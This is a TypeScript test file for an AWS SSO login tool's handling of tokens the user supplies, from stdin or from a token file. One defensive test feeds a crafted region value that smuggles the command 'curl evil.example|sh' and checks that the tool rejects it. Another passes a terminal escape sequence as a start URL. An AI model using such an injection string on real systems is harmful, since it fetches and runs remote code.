import { describe, expect, test } from "bun:test";
import { fileLocation, optionLocation } from "../../src/sso/given-token.ts";
import type { PortalChoice } from "../../src/sso/portal-choice.ts";
import { failureOf } from "../support/failure.ts";
import { fakeSystem } from "../support/fake-system.ts";
import { memoryFiles } from "../support/memory-files.ts";

const startUrl = "https://d-1234567890.awsapps.com/start";
const token = { accessToken: "t", expiresAt: "2030-01-31T13:00:00Z", startUrl, region: "eu-west-1" };
type GivenToken = Extract<PortalChoice, { kind: "token" | "file" }>;

function open(choice: GivenToken, { files = memoryFiles(), stdin = "" } = {}) {
  const system = fakeSystem({ instead: { ...files, readStdin: async () => stdin } });
  const context = { system, home: "/home/me", nrt: false, prompt: "allowed" } as const;
  const location = choice.kind === "token" ? optionLocation(choice, context) : fileLocation(choice, context);
  return { system, location };
}

describe("a token that the user gives", () => {
  test("optionLocation() reads the token from stdin for -, without its line end", async () => {
    const choice = { kind: "token", token: "-", startUrl: undefined, region: "eu-west-1" } as const;
    const location = await open(choice, { stdin: "t\n" }).location;
    expect((await location.store.readToken())?.accessToken).toBe("t");
    expect([location.given, location.store.sharedName]).toEqual([true, undefined]);
    expect((await failureOf(() => open(choice, { stdin: "\n" }).location)).message).toContain(
      "no token on stdin",
    );
  });

  test("fileLocation() takes the portal that the file names, and warns when its refresh token is spent", async () => {
    const files = memoryFiles({ "/t.json": JSON.stringify({ ...token, refreshToken: "r1" }) });
    const choice = { kind: "file", path: "file:///t.json", startUrl: undefined, region: undefined } as const;
    const { system, location } = open(choice, { files });
    const { store, region, startUrl: own } = await location;
    expect([region, own]).toEqual(["eu-west-1", startUrl]);
    await store.writeToken({ ...token, refreshToken: "r1" });
    expect(system.stderrLines).toEqual([]);
    await store.writeToken({ ...token, refreshToken: "r2" });
    expect(system.stderrLines).toHaveLength(1);
    expect(system.stderrLines[0]).toStartWith(
      "aws-login: warning: the refresh token in /t.json is spent now",
    );
    expect(files.log).toEqual([]);
  });

  test("fileLocation() does not show a start URL that is none", async () => {
    const files = memoryFiles({ "/t.json": JSON.stringify({ ...token, startUrl: "\u001b[2J" }) });
    const choice = { kind: "file", path: "/t.json", startUrl: undefined, region: undefined } as const;
    expect((await open(choice, { files }).location).name).toBe("/t.json");
  });

  test("fileLocation() refuses a region that is none, and names the file", async () => {
    const crafted = { ...token, region: "us-east-1; curl evil.example|sh" };
    const files = memoryFiles({ "/t.json": JSON.stringify(crafted) });
    const choice = { kind: "file", path: "/t.json", startUrl: undefined, region: undefined } as const;
    const failure = await failureOf(() => open(choice, { files }).location);
    expect(failure.message).toStartWith("cannot use the region of the token in /t.json: ");
  });
});
